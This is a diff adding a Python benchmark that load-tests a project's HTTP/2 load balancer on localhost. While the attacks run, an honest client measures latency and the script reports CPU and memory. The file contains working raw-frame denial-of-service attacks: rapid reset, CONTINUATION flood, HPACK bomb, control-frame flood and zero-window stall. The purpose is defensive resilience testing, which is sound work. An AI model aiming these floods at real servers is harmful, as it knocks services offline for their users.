@@ -1,0 +1,202 @@
+#!/usr/bin/env python3
+"""HTTP/2 abuse against the alb while an honest client measures its latency: wrk (HTTP/1.1,
+16 keep-alive connections) through the alb to the nginx origins, first alone, then during each
+attack, which raw-frame attackers (h2c prior knowledge, this file) run on other connections for
+the whole measurement:
+- rapid reset: HEADERS then RST_STREAM, as fast as the socket takes them;
+- CONTINUATION flood: a header block that never ends;
+- HPACK bomb: one 4 KB dynamic-table entry referenced 4000 times per request;
+- control-frame flood: PING and SETTINGS frames, answers never read;
+- zero-window stall: 50 connections with a window of 0, each asking for the origin's page.
+Reports the honest client's req/s, p99 and errors per attack, the alb's CPU-seconds during it
+and its resident memory after; passes when the honest client saw no error.
+
+Usage: python3 benches/reliability/h2_abuse.py [--bin-dir target/release] [--seconds 6]
+Only 127.0.0.1 is used; every attack stops when its measurement ends.
+"""
+import argparse
+import os
+import socket
+import struct
+import sys
+import threading
+import time
+
+sys.path.insert(0, os.path.join(os.path.dirname(__file__), "..", "load"))
+import harness  # noqa: E402  (origins, process start, wrk, cleanup at exit)
+
+PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
+HEADERS, RST_STREAM, SETTINGS, PING, CONTINUATION = 0x1, 0x3, 0x4, 0x6, 0x9
+END_STREAM, END_HEADERS = 0x1, 0x4
+
+
+def frame(kind, flags, stream, payload):
+    return struct.pack("!I", len(payload))[1:] + bytes([kind, flags]) + struct.pack("!I", stream) + payload
+
+
+def hpack_int(first, n, v):
+    top = (1 << n) - 1
+    if v < top:
+        return bytes([first | v])
+    out = bytearray([first | top])
+    v -= top
+    while v >= 128:
+        out.append(v % 128 + 128)
+        v //= 128
+    out.append(v)
+    return bytes(out)
+
+
+def literal(name, value, first=0x00):
+    return bytes([first]) + hpack_int(0, 7, len(name)) + name + hpack_int(0, 7, len(value)) + value
+
+
+def get_block(path=b"/"):
+    return (literal(b":method", b"GET") + literal(b":scheme", b"http")
+            + literal(b":authority", b"a.example.test") + literal(b":path", path))
+
+
+def settings(pairs=()):
+    return frame(SETTINGS, 0, 0, b"".join(struct.pack("!HI", k, v) for k, v in pairs))
+
+
+def connect(port, pairs=()):
+    s = socket.create_connection(("127.0.0.1", port), timeout=5)
+    s.sendall(PREFACE + settings(pairs))
+    s.settimeout(0.5)
+    return s
+
+
+def drain(s):
+    try:
+        while s.recv(65536):
+            pass
+    except OSError:
+        pass
+
+
+def attacker(port, stop, attack):
+    """Runs `attack(socket)` on fresh connections until `stop`; a closed connection is
+    reopened (the alb closing it is the expected defence)."""
+    while not stop.is_set():
+        try:
+            s = connect(port)
+            attack(s, stop)
+        except OSError:
+            time.sleep(0.01)
+        finally:
+            try:
+                s.close()
+            except (OSError, UnboundLocalError):
+                pass
+
+
+def rapid_reset(s, stop):
+    block = get_block()
+    stream = 1
+    burst = bytearray()
+    while not stop.is_set():
+        burst.clear()
+        for _ in range(50):
+            burst += frame(HEADERS, END_HEADERS | END_STREAM, stream, block)
+            burst += frame(RST_STREAM, 0, stream, struct.pack("!I", 8))
+            stream += 2
+        s.sendall(burst)
+
+
+def continuation_flood(s, stop):
+    s.sendall(frame(HEADERS, 0, 1, get_block()))
+    junk = b"".join(literal(f"x-flood-{i}".encode(), b"0123456789") for i in range(100))
+    piece = frame(CONTINUATION, 0, 1, junk) * 20
+    while not stop.is_set():
+        s.sendall(piece)
+
+
+def hpack_bomb(s, stop):
+    stream = 1
+    while not stop.is_set():
+        block = get_block() + literal(b"x-bomb", b"a" * 4000, first=0x40) + hpack_int(0x80, 7, 62) * 4000
+        parts = [block[i:i + 16000] for i in range(0, len(block), 16000)]
+        out = bytearray()
+        for i, p in enumerate(parts):
+            flags = (END_HEADERS if i + 1 == len(parts) else 0) | (END_STREAM if i == 0 else 0)
+            out += frame(HEADERS if i == 0 else CONTINUATION, flags, stream, p)
+        s.sendall(out)
+        stream += 2
+
+
+def control_flood(s, stop):
+    burst = b"".join(frame(PING, 0, 0, struct.pack("!Q", i)) + settings([(0x3, 100)]) for i in range(500))
+    while not stop.is_set():
+        s.sendall(burst)
+
+
+def zero_window(port, stop):
+    conns = []
+    for _ in range(50):
+        try:
+            s = connect(port, [(0x4, 0)])
+            s.sendall(frame(HEADERS, END_HEADERS | END_STREAM, 1, get_block()))
+            conns.append(s)
+        except OSError:
+            pass
+    stop.wait()
+    for s in conns:
+        s.close()
+
+
+def rss_kb(pid):
+    return sum(int(open(f"/proc/{p}/status").read().split("VmRSS:")[1].split()[0])
+               for p in harness.pids_of(pid))
+
+
+def main():
+    ap = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
+    ap.add_argument("--bin-dir", default=os.path.join(harness.ROOT, "target", "release"))
+    ap.add_argument("--seconds", type=int, default=6)
+    ap.add_argument("--repeat", type=int, default=1,
+                    help="run every attack this many times (memory that keeps growing is a leak)")
+    args = ap.parse_args()
+    harness.start(["nginx", "-c", harness.origin_config()], 0, "nginx-origin")
+    for p in harness.ORIGIN_PORTS:
+        harness.wait_port(p)
+    alb, note = harness.causeway("alb", args.bin_dir)
+    if not alb:
+        raise SystemExit(note)
+    port = int(alb["url"].rsplit(":", 1)[1].split("/")[0])
+    cases = [
+        ("none (baseline)", None),
+        ("rapid reset", rapid_reset),
+        ("CONTINUATION flood", continuation_flood),
+        ("HPACK bomb", hpack_bomb),
+        ("control-frame flood", control_flood),
+        ("zero-window stall (50 connections)", "stall"),
+    ]
+    cases = cases[:1] + [c for c in cases[1:] for _ in range(args.repeat)]
+    print("| attack | honest req/s | honest p99 ms | honest errors | alb CPU-s | alb RSS after (KB) |")
+    print("|---|---|---|---|---|---|")
+    ok = True
+    for name, attack in cases:
+        stop = threading.Event()
+        threads = []
+        if attack == "stall":
+            threads.append(threading.Thread(target=zero_window, args=(port, stop)))
+        elif attack:
+            threads += [threading.Thread(target=attacker, args=(port, stop, attack)) for _ in range(2)]
+        for t in threads:
+            t.start()
+        time.sleep(0.3)
+        before = harness.cpu_seconds(alb["pid"])
+        r = harness.wrk(alb["url"], args.seconds, 16)
+        cpu = harness.cpu_seconds(alb["pid"]) - before
+        stop.set()
+        for t in threads:
+            t.join(timeout=10)
+        ok = ok and r["errors"] == 0
+        print(f"| {name} | {r['rps']:.0f} | {r['p99_ms']:.2f} | {r['errors']} | {cpu:.2f} | "
+              f"{rss_kb(alb['pid'])} |")
+    return 0 if ok else 1
+
+
+if __name__ == "__main__":
+    sys.exit(main())
